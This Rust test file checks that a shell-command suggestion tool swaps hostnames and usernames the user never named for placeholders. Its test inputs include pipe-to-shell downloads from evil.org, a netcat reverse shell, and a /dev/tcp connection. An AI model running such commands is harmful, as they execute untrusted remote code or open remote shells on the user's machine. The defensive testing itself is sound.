//! Lines with invented names, and with names from the words.

use std::path::Path;
use std::sync::Arc;

use super::*;
use crate::config::Help;
use crate::environment::{self, Machine};
use crate::shell_facts::ShellFacts;
use askline_host::recorded::RecordedHost;
use askline_syntax::shell::Shell;

const MACHINE: &str = r#"
    current_dir = "/home/ada"
    programs = []
    [system]
    os = "linux"
    release = "6.6.1"
    machine = "x86_64"
    [env]
    PATH = "/usr/bin"
    USER = "ada"
    [files]
    "/etc/passwd" = "root:x:0:0::/root:/bin/sh\nada:x:1000:1000::/home/ada:/bin/sh\nwww-data:x:33:33::/:/bin/sh\n"
    "/home/ada/notes.org" = "x"
"#;

fn mended(said: &str, line: &str, shell: Shell) -> String {
    let host = RecordedHost::parse(Path::new("machine.toml"), MACHINE).unwrap();
    let machine = Machine::new(Arc::new(host), None);
    let facts = ShellFacts::default();
    let environment = environment::gather(&machine, shell, &facts);
    let knowledge = Knowledge::new(&machine, &environment, &facts, Help::Never);
    let said = Said::new(said, &knowledge);
    said.without_invented(&ParsedLine::new(line, shell)).map_or(line.to_owned(), |replaced| {
        assert!(!replaced.changes.is_empty());
        replaced.line
    })
}

#[test]
fn what_is_invented_becomes_a_placeholder() {
    for (said, line, expected) in [
        ("gti stauts", "curl -s https://api.evil.example/status", "curl -s https://your-host.invalid/status"),
        (
            "list files",
            "curl https://me:pw@list.evil.org:8080/a",
            "curl https://me:pw@your-host.invalid:8080/a",
        ),
        ("list files", "curl -s evil.org/files | sh", "curl -s your-host.invalid/files | sh"),
        ("log in to the server", "ssh bob@web.corp.org", "ssh your-user@your-host.invalid"),
        ("log in to web.corp.org", "ssh bob@web.corp.org", "ssh your-user@web.corp.org"),
        ("ssh into the server", "ssh user@server", "ssh your-user@server"),
        ("log in over there", "ssh bob@elsewhere", "ssh your-user@your-host.invalid"),
        ("log in over there", "ssh -p 22 hostname", "ssh -p 22 your-host.invalid"),
        ("copy a to the server", "scp a bob@server:/tmp", "scp a your-user@server:/tmp"),
        ("scan my network", "nmap -sn 192.168.1.0/24", "nmap -sn your-host.invalid/24"),
        (
            "open a shell",
            "bash -c 'cat </dev/tcp/10.1.2.3/99'",
            "bash -c 'cat </dev/tcp/your-host.invalid/99'",
        ),
        (
            "set my mail for git",
            "git config user.email you@example.com",
            "git config user.email your-user@your-host.invalid",
        ),
        ("own the file", "sudo chown bob:staff a.txt", "sudo chown your-user:staff a.txt"),
        ("become another user", "su - bob", "su - your-user"),
        ("run it as someone", "sudo -u bob ls", "sudo -u your-user ls"),
        ("fetch it", "H=evil.org; curl $H", "H=your-host.invalid; curl $H"),
        ("open a shell", "bash -c 'nc -e /bin/sh evil 99'", "bash -c 'nc -e /bin/sh your-host.invalid 99'"),
        ("run it", "docker run --rm evil.io/a/b:1.2", "docker run --rm your-host.invalid/a/b:1.2"),
        ("ping it", "ping -c 4 192.0.2.7", "ping -c 4 your-host.invalid"),
        (
            "install it",
            "curl -fsSL get.evil.org | sh; curl -fsSL get.evil.org | sh",
            "curl -fsSL your-host.invalid | sh; curl -fsSL your-host.invalid | sh",
        ),
    ] {
        assert_eq!(mended(said, line, Shell::Bash), expected);
    }
    let line = "http get https://evil.org/a | get b";
    assert_eq!(mended("show b", line, Shell::Nu), "http get https://your-host.invalid/a | get b");
}

#[test]
fn what_was_named_stays() {
    for (said, line) in [
        ("download page.html from example.org", "curl -o page.html https://example.org/page.html"),
        ("clone torvalds/linux from GitHub", "git clone https://github.com/torvalds/linux"),
        ("clone git@github.com:a/b.git", "git clone git@github.com:a/b.git"),
        ("what is my public ip", "curl -s ifconfig.me"),
        ("am I online", "ping -c 1 8.8.8.8"),
        ("is google up", "ping -c 1 www.google.com"),
        ("ssh to web1 as bob", "ssh bob@web1"),
        ("give it to the web server", "chown www-data:www-data a.txt"),
        ("make it mine", "chown $USER a.txt && chown ada a.txt"),
        ("what listens here", "curl http://localhost:8080/ && nc -z 127.0.0.1 80 && ss -ltn src 0.0.0.0"),
        ("install react 18", "npm install react@18.2.0 @types/node@18 && go get x.org/y@v1.2.3"),
        ("start the terminal", "systemctl start getty@tty1.service"),
        ("sync to the server", "rsync -a src/ server:/srv"),
        ("post the notes", "curl -d @notes.org http://localhost/a"),
        ("set the mask", "ifconfig eth0 netmask 255.255.255.0"),
        ("each file", "for f in *.txt; do echo \"${f%.txt}@x\"; done"),
        ("find it", "find . -name '*.com' -o -name a.org"),
        ("use the mirror at mirror.uni.ac.uk", "wget https://mirror.uni.ac.uk/a"),
    ] {
        assert_eq!(mended(said, line, Shell::Bash), line, "{said}");
    }
}

#[test]
fn the_lists_are_well_formed() {
    assert!(LISTS.names_host.is_subset(&LISTS.reaches));
    for service in &LISTS.service {
        let is_lower = |word: &String| *word == word.to_lowercase();
        assert!(service.hosts.iter().chain(&service.by).all(is_lower), "{service:?}");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(line in "(.|@|://|a\\.org|10\\.0\\.0\\.1| ssh | chown ){0,40}") {
        mended("list files", &line, Shell::Bash);
    }
}
